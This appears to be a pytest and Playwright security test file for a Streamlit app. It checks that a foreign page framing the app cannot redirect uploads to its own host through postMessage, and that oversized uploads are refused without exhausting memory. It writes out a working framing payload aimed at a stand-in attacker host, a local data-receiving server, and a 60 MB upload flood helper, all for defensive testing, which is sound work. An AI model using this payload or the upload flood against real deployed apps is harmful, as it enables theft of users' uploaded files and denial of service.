"""A page of somebody else's frames the app and commands it; a stranger uploads too much."""

import contextlib
import http.client
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urlsplit
from urllib.request import urlopen

import pytest
from playwright.sync_api import expect

from tests.browser.served_app import press

ATTACKER = "https://attacker.streamlit.app"
"""Trusted by Streamlit's own default. Playwright answers for it: nothing leaves the machine."""
FRAMING = {"permissions": ["local-network-access"]}
"""A public page may frame what runs on this machine: Chromium asks first, the Internet does not."""
SECRET = b"title: what nobody else may read\n"
MB = 1_000_000

ATTACK = """<!doctype html><title>A friendly page</title>
<iframe src="{app}" style="width:1300px;height:800px"></iframe>
<script>
const order = {{ stCommVersion: 1, type: "SET_FILE_UPLOAD_CLIENT_CONFIG",
                 prefix: "{thief}/stolen", headers: {{}} }};
const given = {{ stCommVersion: 1, type: "SET_TOOLBAR_ITEMS",
                 items: [{{ key: "x", label: "Commanded" }}] }};
setInterval(() => {{
  for (const message of [order, given])
    document.querySelector("iframe").contentWindow.postMessage(message, "*");
}}, 100);
</script>"""


@pytest.fixture
def thief():
    """A host that takes whatever it is sent; `got` is that."""
    got = []

    class Taking(BaseHTTPRequestHandler):
        def answer(self):
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            if self.command != "OPTIONS":
                got.append(body)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
            self.send_header("Access-Control-Allow-Credentials", "true")
            self.send_header("Access-Control-Allow-Methods", "PUT, POST, DELETE")
            asked = self.headers.get("Access-Control-Request-Headers", "")
            self.send_header("Access-Control-Allow-Headers", asked)
            self.end_headers()

        do_PUT = do_POST = do_OPTIONS = do_DELETE = answer  # noqa: N815 - the library's names

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Taking)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield SimpleNamespace(url=f"http://127.0.0.1:{server.server_port}", got=got)
    server.shutdown()
    thread.join()
    server.server_close()


def uploaded_in_a_frame(page, app_url, thief):
    """Upload a file in the app while the attacker's page around it sends its messages."""
    attack = ATTACK.format(app=app_url, thief=thief.url)
    page.route(f"{ATTACKER}/**", lambda route: route.fulfill(body=attack, content_type="text/html"))
    page.goto(f"{ATTACKER}/")
    app = page.frame_locator("iframe")
    app.get_by_role("radio", name="Your own story").wait_for()
    press(page, app.get_by_role("radio", name="Your own story"))
    app.locator(".st-key-own-file input[type=file]").wait_for(state="attached")
    with page.expect_event("requestfinished", lambda request: request.method == "PUT") as sent:
        app.locator(".st-key-own-file input[type=file]").set_input_files(
            {"name": "mine.yaml", "mimeType": "application/yaml", "buffer": SECRET}
        )
    return sent.value.url


@pytest.mark.noisy("^request: https://attacker", "status of 403", "status code 403")
def test_no_page_around_the_app_gets_what_a_reader_uploads(open_page, app_url, thief):
    page = open_page(**FRAMING)
    assert uploaded_in_a_frame(page, app_url, thief).startswith(app_url)
    app = page.frame_locator("iframe")
    # In a stranger's frame the browser keeps the app's cookie back, and the server refuses.
    expect(app.locator(".st-key-own-file").get_by_role("alert")).to_contain_text("403")
    assert thief.got == []
    assert app.get_by_text("Commanded").count() == 0


@pytest.mark.noisy("^request: https://attacker")
def test_with_streamlits_own_default_it_would(open_page, serve, thief):
    """So the test above is one: the same page, the same messages, the same upload."""
    server = serve("streamlit_app.py", "--client.allowedOrigins=https://*.streamlit.app")
    page = open_page(**FRAMING)
    assert uploaded_in_a_frame(page, server.url, thief).startswith(thief.url)
    assert SECRET in thief.got[0]


def test_the_browser_is_told_to_obey_nobody(app_url):
    with urlopen(f"{app_url}/_stcore/host-config") as answer:
        assert json.load(answer)["allowedOrigins"] == ["https://nobody.invalid"]


@pytest.mark.noisy("^request: https://news")
def test_the_app_can_still_be_framed_by_an_article(open_page, app_url):
    page = open_page(**FRAMING)
    article = f'<iframe src="{app_url}?embed=true" width="900" height="760"></iframe>'
    page.route(
        "https://news.example/**",
        lambda route: route.fulfill(body=article, content_type="text/html"),
    )
    page.goto("https://news.example/story")
    inner = page.frame_locator("iframe").frame_locator("iframe")
    inner.locator("#title", has_text="Assad").wait_for()


# --------------------------------------------------------------------------------- too much


def memory(server):
    """What the server's process has in memory, bytes."""
    status = Path(f"/proc/{server.process.pid}/status").read_text()
    return int(status.split("VmRSS:")[1].split()[0]) * 1024


def put(url, headers, size, *, chunked=False):
    """Send a file of a size as a browser would, past the page; gives the status of the answer."""
    begin = (
        b'--cut\r\nContent-Disposition: form-data; name="file"; filename="a.yaml"\r\n'
        b"Content-Type: application/yaml\r\n\r\n"
    )
    parts = [begin, *[b"a" * 100_000] * (size // 100_000), b"\r\n--cut--\r\n"]
    parts_url = urlsplit(url)
    connection = http.client.HTTPConnection(parts_url.hostname, parts_url.port, timeout=30)
    sent = {**headers, "Content-Type": "multipart/form-data; boundary=cut"}
    if not chunked:
        sent["Content-Length"] = str(sum(map(len, parts)))
    with contextlib.suppress(ConnectionError):  # it does not want to hear the rest
        connection.request("PUT", parts_url.path, iter(parts), sent, encode_chunked=chunked)
    try:
        return connection.getresponse().status
    except (http.client.HTTPException, ConnectionError):
        return None
    finally:
        connection.close()


@pytest.mark.parametrize("chunked", [False, True])
def test_what_is_too_large_is_refused_and_not_kept(page, serve, chunked):
    server = serve()
    page.goto(server.url)
    press(page, page.get_by_role("radio", name="Your own story"))
    with page.expect_request(lambda request: request.method == "PUT") as asked:
        page.locator(".st-key-own-file input[type=file]").set_input_files(
            {"name": "mine.yaml", "mimeType": "application/yaml", "buffer": SECRET}
        )
    url, own = asked.value.url, asked.value.all_headers()
    headers = {name: own[name] for name in ("cookie", "x-xsrftoken") if name in own}
    assert put(f"{url}x", headers, 4 * MB) == 204  # the way in is the right one
    before = memory(server)
    answers = [put(f"{url}{i}", headers, 60 * MB, chunked=chunked) for i in range(6)]
    assert set(answers) <= {413, None}
    assert 413 in answers
    assert memory(server) - before < 60 * MB  # of 360
    assert server.answers()
